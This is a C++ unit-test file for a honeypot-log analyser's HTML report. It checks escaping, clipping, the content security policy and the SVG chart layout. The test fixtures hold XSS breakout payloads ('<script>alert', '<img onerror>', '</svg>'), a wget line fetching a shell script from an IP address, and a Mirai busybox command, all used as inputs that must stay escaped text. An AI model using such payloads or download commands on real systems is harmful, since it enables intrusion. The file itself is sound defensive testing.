// The `html` report format: escaping of attacker-controlled strings (they must stay text, never
// markup), clipping of long keys, the page's structure (sections, tables, balanced markup, nothing
// loaded from outside), the flow diagram's layout and the SVG charts.
#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <regex>
#include <set>

#include "analyze/report/flow_diagram.h"
#include "analyze/report/html_assets.h"
#include "analyze/report/html_text.h"
#include "analyze/report/report_format.h"
#include "analyze/report/svg_charts.h"
#include "analyze_test_support.h"

namespace busytrap::analyze {
namespace {

std::size_t occurrences(std::string_view text, std::string_view what) {
  std::size_t n = 0;
  for (std::size_t at = text.find(what); at != std::string_view::npos; at = text.find(what, at + 1)) ++n;
  return n;
}

// Checks that every element opened in `html` is closed in order (void and self-closed elements
// aside). Any '<' that does not start one of our tags shows up as an unknown or unbalanced tag,
// so text that escaped into markup fails this.
::testing::AssertionResult balanced_markup(const std::string& html) {
  static const std::set<std::string> kVoid = {"meta", "!DOCTYPE"};
  std::vector<std::string> open;
  const std::regex tag(R"(<(/?)([!A-Za-z][A-Za-z0-9]*)([^>]*)>)");
  // The page's own script is code, not markup: leave it out.
  const std::size_t script = html.find("<script>");
  const std::string body =
      script == std::string::npos ? html : html.substr(0, script) + html.substr(html.find("</script>") + 9);
  for (auto it = std::sregex_iterator(body.begin(), body.end(), tag); it != std::sregex_iterator(); ++it) {
    const std::string name = (*it)[2];
    const std::string attributes = (*it)[3];
    if ((*it)[1].length() == 0) {
      if (kVoid.count(name) || (!attributes.empty() && attributes.back() == '/')) continue;
      open.push_back(name);
    } else {
      if (open.empty() || open.back() != name) {
        return ::testing::AssertionFailure() << "</" << name << "> closes <" << (open.empty() ? "" : open.back())
                                             << "> at offset " << it->position();
      }
      open.pop_back();
    }
  }
  if (!open.empty()) return ::testing::AssertionFailure() << "<" << open.back() << "> never closed";
  if (body.find('<') != std::string::npos && occurrences(body, "<") != static_cast<std::size_t>(std::distance(
                                                 std::sregex_iterator(body.begin(), body.end(), tag),
                                                 std::sregex_iterator()))) {
    return ::testing::AssertionFailure() << "a '<' that starts no tag";
  }
  return ::testing::AssertionSuccess();
}

TEST(HtmlText, EscapesMarkupQuotesAndAmpersands) {
  EXPECT_EQ(html_text("<script>alert(\"x\")</script>"), "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;");
  EXPECT_EQ(html_text("a & b 'c' </svg>"), "a &amp; b &#39;c&#39; &lt;/svg&gt;");
  EXPECT_EQ(html_text("&amp;"), "&amp;amp;");  // an entity in a log stays the text it is
}

TEST(HtmlText, ShowsBinaryAndInvalidUtf8Escaped) {
  EXPECT_EQ(html_text(std::string("\x7f" "ELF\x01\xff", 6)), "\\x7fELF\\x01\\xff");
  EXPECT_EQ(html_text("caf\xc3\xa9 \xe2\x87\x92"), "caf\xc3\xa9 \xe2\x87\x92");  // valid UTF-8 kept
  EXPECT_EQ(html_text(std::string("a\0b\nc\x1b[31m", 10)), "a\\x00b\\x0ac\\x1b[31m");
  EXPECT_EQ(html_text("\xc2\x9b"), "\\xc2\\x9b");  // a C1 control (CSI) is not shown raw
}

TEST(HtmlText, ClipsAtCharacterBoundariesWithAnEllipsis) {
  bool clipped = false;
  EXPECT_EQ(html_text_clipped("abcdefgh", 4, &clipped), "abcd\u2026");
  EXPECT_TRUE(clipped);
  EXPECT_EQ(html_text_clipped("abcd", 4, &clipped), "abcd");
  EXPECT_FALSE(clipped);
  // \xff takes 4 characters: it is never cut in half.
  EXPECT_EQ(html_text_clipped("ab\xff", 5), "ab\u2026");
  EXPECT_EQ(html_text_clipped("ab\xff", 6), "ab\\xff");
  // A UTF-8 sequence is one character.
  EXPECT_EQ(html_text_clipped("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e", 2), "\xe6\x97\xa5\xe6\x9c\xac\u2026");
  // Escaping happens after the cut, so an entity is never cut.
  EXPECT_EQ(html_text_clipped("<<<<", 2), "&lt;&lt;\u2026");
}

TEST(HtmlText, ClippedSpanKeepsTheFullTextInTheTitle) {
  EXPECT_EQ(html_clipped_span("short", 10), "short");
  const std::string span = html_clipped_span("wget http://x/\"><script>", 8);
  EXPECT_EQ(span, "<span title=\"wget http://x/&quot;&gt;&lt;script&gt;\">wget htt\u2026</span>");
  const std::string huge(100000, 'A');
  EXPECT_LT(html_clipped_span(huge, 50).size(), kTitleChars + 200);  // the title is bounded too
}

TEST(HtmlReport, FormatIsRegistered) {
  EXPECT_EQ(parse_report_format("html"), ReportFormat::Html);
}

class HtmlReportPage : public ::testing::Test {
 protected:
  static std::string hostile() {
    // Breakout attempts (script, attribute, SVG, comment, CDATA), binary and invalid UTF-8.
    return R"("echo <script>alert(1)</script> \" ' & </svg></text><!-- ]]> <img src=x onerror=alert(2)> \u007fELF\udcff")";
  }
  void SetUp() override {
    using testing::cowrie_command;
    const std::string log =
        cowrie_command("s1", "2024-01-01T00:00:01Z", R"("enable")") +
        cowrie_command("s1", "2024-01-01T00:00:02Z", R"("system")") +
        cowrie_command("s1", "2024-01-01T00:00:03Z", R"("shell")") +
        cowrie_command("s1", "2024-01-01T00:00:04Z", R"("sh")") +
        cowrie_command("s1", "2024-01-01T00:00:05Z", hostile()) +
        cowrie_command("s2", "2024-01-01T00:00:06Z", R"("enable")") +
        cowrie_command("s2", "2024-01-01T00:00:07Z", R"("system")") +
        cowrie_command("s3", "2024-01-01T00:00:08Z", R"("/bin/busybox MIRAI")") + "{\"eventid\": broken\n";
    report_ = testing::analyze_paths({dir_.file("cowrie.json", log)});
  }
  testing::TempDir dir_;
  AnalyzeReport report_;
};

TEST_F(HtmlReportPage, AttackerStringsStayText) {
  const std::string html = render_report(report_, ReportFormat::Html, false);
  EXPECT_EQ(occurrences(html, "<script"), 1u);  // ours only
  EXPECT_EQ(occurrences(html, "<img"), 0u);
  EXPECT_EQ(occurrences(html, "<!--"), 0u);
  EXPECT_EQ(occurrences(html, "<svg"), occurrences(html, "</svg>"));
  EXPECT_NE(html.find("echo &lt;script&gt;alert(1)&lt;/script&gt; &quot; &#39; &amp; &lt;/svg&gt;&lt;/text&gt;"),
            std::string::npos);
  EXPECT_NE(html.find("\\x7fELF\\xff"), std::string::npos);
  EXPECT_TRUE(balanced_markup(html));
}

TEST_F(HtmlReportPage, LoadsNothingAndAllowsOnlyItsOwnScript) {
  const std::string html = render_report(report_, ReportFormat::Html, false);
  // In the markup itself (tags; text of the logs is escaped and holds no tag).
  std::string tags;
  const std::regex tag(R"(<[!/A-Za-z][^>]*>)");
  for (auto it = std::sregex_iterator(html.begin(), html.end(), tag); it != std::sregex_iterator(); ++it) {
    tags += it->str();
  }
  for (const char* reference : {" src=", " href=\"http", " href=\"//", "url(", "<link", "<iframe", "<object",
                                "<img", "<embed", " on"}) {
    EXPECT_EQ(tags.find(reference), std::string::npos) << reference;
  }
  EXPECT_EQ(html.find("@import"), std::string::npos);
  EXPECT_NE(html.find("default-src 'none'; style-src 'unsafe-inline'; script-src " + html_script_csp_hash() + ";"),
            std::string::npos);
  EXPECT_EQ(html_script_csp_hash().rfind("'sha256-", 0), 0u);
  EXPECT_EQ(html_script_csp_hash().size(), std::string("'sha256-").size() + 44 + 1);
  EXPECT_NE(html.find("<script>" + std::string(html_script_source()) + "</script>"), std::string::npos);
}

TEST_F(HtmlReportPage, HasThePapersTablesSectionsAndReproductionFacts) {
  const std::string html = render_report(report_, ReportFormat::Html, false);
  EXPECT_EQ(html.rfind("<!DOCTYPE html>", 0), 0u);
  for (const char* title : {"Table 1: most frequent command lines", "Table 2: most frequent program names",
                            "The openings named in the paper (sessions starting with each)",
                            "Session openings: first 2 program names", "Prefix tree of session openings",
                            "Flow of session openings"}) {
    EXPECT_NE(html.find(title), std::string::npos) << title;
  }
  // Every navigation link has its section, once.
  const std::regex link(R"re(<a href="#([a-z-]+)">)re");
  std::size_t links = 0;
  for (auto it = std::sregex_iterator(html.begin(), html.end(), link); it != std::sregex_iterator(); ++it, ++links) {
    EXPECT_EQ(occurrences(html, "<section id=\"" + (*it)[1].str() + "\">"), 1u) << (*it)[1];
  }
  EXPECT_EQ(links, occurrences(html, "<section id="));
  EXPECT_EQ(occurrences(html, "<section id=\"credentials\">"), 0u);  // no intel analysis was run
  // The numbers the page is read for, machine-readable too.
  EXPECT_NE(html.find("id=\"total-records\" data-value=\"" + std::to_string(report_.totals.records) + "\""),
            std::string::npos);
  EXPECT_NE(html.find("id=\"total-skipped-lines\" data-value=\"1\""), std::string::npos);
  EXPECT_NE(html.find("cowrie.json:9: invalid JSON"), std::string::npos);
  EXPECT_NE(html.find("<code id=\"options\">--split semicolon --protocol all"), std::string::npos);
  // The command is one the command line takes (default rows per table: no --top).
  EXPECT_NE(html.find("id=\"command\">busytrap analyze --split semicolon --protocol all --openings 2-4 -f html "),
            std::string::npos);
  // The four named openings: enable⇒system⇒shell⇒sh started one session.
  EXPECT_NE(html.find("enable\u21d2system\u21d2shell\u21d2sh"), std::string::npos);
}

TEST_F(HtmlReportPage, PaperLayoutAddsThePapersFigures) {
  const std::string html = render_report(report_, ReportFormat::Html, true);
  EXPECT_NE(html.find("<th class=\"n\">paper</th>"), std::string::npos);
  EXPECT_EQ(html.find("Session openings: first 2 program names"), std::string::npos);
  EXPECT_NE(html.find(" --paper -f html"), std::string::npos);
  EXPECT_TRUE(balanced_markup(html));
}

TEST_F(HtmlReportPage, ShowsIntelSectionsAndAnyTableNoSectionKnows) {
  report_.intel.selection.families = report_.intel.selection.credentials = true;
  report_.intel.figures = {{"login_attempts", "login attempts", 12},
                           {"login_success_permille", "login success rate (per mille)", 250},
                           {"sessions_unclassified", "sessions with commands of no known family", 2},
                           {"events_per_hour_peak", "busiest hour's events", 77}};
  report_.intel.tables = {
      RankedTable{"families", "Sessions per family", "family", 3, 1, {{1, "mirai-scanner", 1, 1.0 / 3}}},
      RankedTable{"credentials_passwords", "Most tried passwords", "password", 12, 1, {{1, "</svg>x", 12, 1.0}}},
      RankedTable{"timeline_hours", "Events per hour", "hour", 0, 1, {{1, "2024-01-01T00", 8, 0}}},
      RankedTable{"credentials_mirai_pairs", "Mirai-table pairs tried", "user:password", 0, 0, {}},
  };
  report_.limits.set_all(5);
  const std::string html = render_report(report_, ReportFormat::Html, false);
  EXPECT_NE(html.find("id=\"command\">busytrap analyze --split semicolon --protocol all --top 5 --openings 2-4"),
            std::string::npos);
  for (const char* section : {"families", "credentials", "more-intel"}) {
    EXPECT_EQ(occurrences(html, "<section id=\"" + std::string(section) + "\">"), 1u) << section;
  }
  EXPECT_NE(html.find("id=\"figure-login_success_permille\" data-value=\"250\">25.0%"), std::string::npos);
  EXPECT_NE(html.find("id=\"figure-events_per_hour_peak\" data-value=\"77\""), std::string::npos);
  EXPECT_NE(html.find("id=\"table-timeline_hours\""), std::string::npos);
  EXPECT_NE(html.find("(unclassified)"), std::string::npos);  // in the family chart
  // A table without rows is named on one line, not drawn as an empty panel.
  EXPECT_NE(html.find("<p class=\"meta\">No rows: <span id=\"table-credentials_mirai_pairs\">Mirai-table pairs tried</span></p>"),
            std::string::npos);
  EXPECT_NE(html.find("&lt;/svg&gt;x"), std::string::npos);
  // A table with total 0 has no share column; one with a total has.
  const std::size_t timeline = html.find("id=\"table-timeline_hours\"");
  EXPECT_EQ(html.substr(timeline, html.find("</table>", timeline) - timeline).find(">share<"), std::string::npos);
  const std::size_t passwords = html.find("id=\"table-credentials_passwords\"");
  EXPECT_NE(html.substr(passwords, html.find("</table>", passwords) - passwords).find(">share<"), std::string::npos);
  EXPECT_TRUE(balanced_markup(html));
}

TEST_F(HtmlReportPage, CutsLongKeysKeepingTheFullTextInATooltip) {
  const std::string long_line = "wget http://198.51.100.7/" + std::string(1000, 'A') + "\"&.sh";
  report_.command_lines.rows.front().key = long_line;
  const std::string html = render_report(report_, ReportFormat::Html, false);
  const std::string full = "title=\"wget http://198.51.100.7/" + std::string(1000, 'A') + "&quot;&amp;.sh\">";
  EXPECT_NE(html.find(full), std::string::npos);
  EXPECT_NE(html.find(full + "wget http://198.51.100.7/" + std::string(300 - 25, 'A') + "\u2026</span>"),
            std::string::npos);
  EXPECT_TRUE(balanced_markup(html));
}

TEST(HtmlReportEmpty, AnEmptyLogGivesAPageWithoutCharts) {
  testing::TempDir dir;
  const AnalyzeReport report = testing::analyze_paths({dir.file("empty.json", "")});
  const std::string html = render_report(report, ReportFormat::Html, false);
  EXPECT_NE(html.find("id=\"total-records\" data-value=\"0\""), std::string::npos);
  EXPECT_NE(html.find("No session ran a program."), std::string::npos);
  EXPECT_EQ(html.find("class=\"chart flow\""), std::string::npos);
  EXPECT_NE(html.find("empty.json: empty"), std::string::npos);
  EXPECT_TRUE(balanced_markup(html));
}

// root(10): enable(6) -> system(5) -> shell(5); shell(3) -> sh(3); system(1) -> shell(1)
PrefixNode sample_tree() {
  PrefixNode shell5{"shell", 5, {}};
  PrefixNode system5{"system", 5, {shell5}};
  PrefixNode enable{"enable", 6, {system5}};
  PrefixNode shell{"shell", 3, {PrefixNode{"sh", 3, {}}}};
  PrefixNode system{"system", 1, {PrefixNode{"shell", 1, {}}}};
  return PrefixNode{"(sessions)", 10, {enable, shell, system}};
}

TEST(FlowDiagram, MergesNamesPerColumnAndConservesSessions) {
  const FlowDiagram flow = layout_flow(sample_tree(), 8);
  ASSERT_EQ(flow.columns, 3u);
  std::map<std::pair<std::size_t, std::string>, std::uint64_t> nodes;
  for (const FlowNode& node : flow.nodes) nodes[{node.column, node.name}] = node.count;
  EXPECT_EQ(nodes, (std::map<std::pair<std::size_t, std::string>, std::uint64_t>{
                       {{0, "enable"}, 6}, {{0, "shell"}, 3}, {{0, "system"}, 1},
                       {{1, "system"}, 5}, {{1, "sh"}, 3}, {{1, "shell"}, 1}, {{2, "shell"}, 5}}));
  std::map<std::string, std::uint64_t> links;
  for (const FlowLink& link : flow.links) {
    links[std::to_string(flow.nodes[link.from].column) + flow.nodes[link.from].name + ">" + flow.nodes[link.to].name] =
        link.count;
  }
  EXPECT_EQ(links, (std::map<std::string, std::uint64_t>{
                       {"0enable>system", 5}, {"0shell>sh", 3}, {"0system>shell", 1}, {"1system>shell", 5}}));
  // Every band starts and ends inside its nodes; what arrives at a node is all of it.
  std::vector<std::uint64_t> in(flow.nodes.size()), out(flow.nodes.size());
  for (const FlowLink& link : flow.links) {
    const FlowNode& from = flow.nodes[link.from];
    const FlowNode& to = flow.nodes[link.to];
    EXPECT_EQ(to.column, from.column + 1);
    EXPECT_GE(link.y_from, from.y - 1e-9);
    EXPECT_LE(link.y_from + link.thickness, from.y + from.height + 1e-9);
    EXPECT_GE(link.y_to, to.y - 1e-9);
    EXPECT_LE(link.y_to + link.thickness, to.y + to.height + 1e-9);
    in[link.to] += link.count;
    out[link.from] += link.count;
  }
  for (std::size_t i = 0; i < flow.nodes.size(); ++i) {
    if (flow.nodes[i].column > 0) {
      EXPECT_EQ(in[i], flow.nodes[i].count) << flow.nodes[i].name;
    }
    EXPECT_LE(out[i], flow.nodes[i].count);
  }
  // Heights are proportional to sessions; nodes of a column do not overlap; the drawing fits.
  EXPECT_NEAR(flow.nodes[0].height / 6.0, flow.nodes[1].height / 3.0, 1e-9);
  for (std::size_t i = 1; i < flow.nodes.size(); ++i) {
    if (flow.nodes[i].column == flow.nodes[i - 1].column) {
      EXPECT_GT(flow.nodes[i].y, flow.nodes[i - 1].y + flow.nodes[i - 1].height);
    }
  }
  EXPECT_LE(flow.height, kFlowHeight + 1e-9);
}

TEST(FlowDiagram, MergesSmallNamesIntoOther) {
  const FlowDiagram flow = layout_flow(sample_tree(), 2);
  std::size_t column0 = 0;
  for (const FlowNode& node : flow.nodes) {
    if (node.column != 0) continue;
    ++column0;
    if (node.other) {
      EXPECT_EQ(node.merged, 2u);
      EXPECT_EQ(node.count, 4u);  // shell 3 + system 1
    }
  }
  EXPECT_EQ(column0, 2u);
  EXPECT_EQ(flow.nodes[0].name, "enable");  // the largest first, "other" last
  EXPECT_TRUE(flow.nodes[1].other);
}

TEST(FlowDiagram, DrawsEscapedLabelsAndTooltips) {
  PrefixNode root{"(sessions)", 4, {PrefixNode{"</svg><script>x", 4, {PrefixNode{"sh", 4, {}}}}}};
  const std::string svg = svg_flow_diagram(layout_flow(root));
  EXPECT_EQ(occurrences(svg, "<svg"), 1u);
  EXPECT_EQ(occurrences(svg, "</svg>"), 1u);
  EXPECT_EQ(occurrences(svg, "<script"), 0u);
  EXPECT_NE(svg.find("&lt;/svg&gt;&lt;script&gt;x \u21d2 sh: 4 sessions"), std::string::npos);
  EXPECT_EQ(occurrences(svg, "<path class=\"band"), 1u);
  EXPECT_EQ(occurrences(svg, "<rect class=\"node"), 2u);
  EXPECT_TRUE(balanced_markup(svg));
  EXPECT_EQ(svg_flow_diagram(layout_flow(PrefixNode{"(sessions)", 0, {}})), "");
}

TEST(SvgCharts, OneBarPerEntryWithEscapedLabels) {
  const std::vector<ChartBar> bars = {{"mirai", 30}, {"<b>&\"", 10}, {std::string("\xff\x00", 2), 1}};
  for (const std::string& svg : {svg_bar_chart(bars, "t"), svg_column_chart(bars, "t")}) {
    EXPECT_EQ(occurrences(svg, "<rect class=\"bar"), 3u);
    EXPECT_NE(svg.find("&lt;b&gt;&amp;&quot;"), std::string::npos);
    EXPECT_NE(svg.find("\\xff\\x00"), std::string::npos);
    EXPECT_EQ(occurrences(svg, "<b>"), 0u);
    EXPECT_TRUE(balanced_markup(svg));
  }
  EXPECT_EQ(svg_bar_chart({}, "t"), "");
  EXPECT_EQ(svg_column_chart({}, "t"), "");
  // The longest bar is the largest value.
  const std::string svg = svg_bar_chart(bars, "t");
  EXPECT_NE(svg.find("width=\"330.0\""), std::string::npos);
}

TEST(SvgCharts, ColumnChartThinsOutLabelsOfLongSeries) {
  std::vector<ChartBar> hours;
  for (int h = 0; h < 168; ++h) hours.push_back(ChartBar{"2024-01-01T" + std::to_string(h), static_cast<std::uint64_t>(h)});
  const std::string svg = svg_column_chart(hours, "per hour");
  EXPECT_EQ(occurrences(svg, "<rect class=\"bar"), 168u);
  const std::size_t labels = occurrences(svg, "<text class=\"lbl clbl\"");
  EXPECT_GT(labels, 5u);
  EXPECT_LT(labels, 20u);
}

}  // namespace
}  // namespace busytrap::analyze
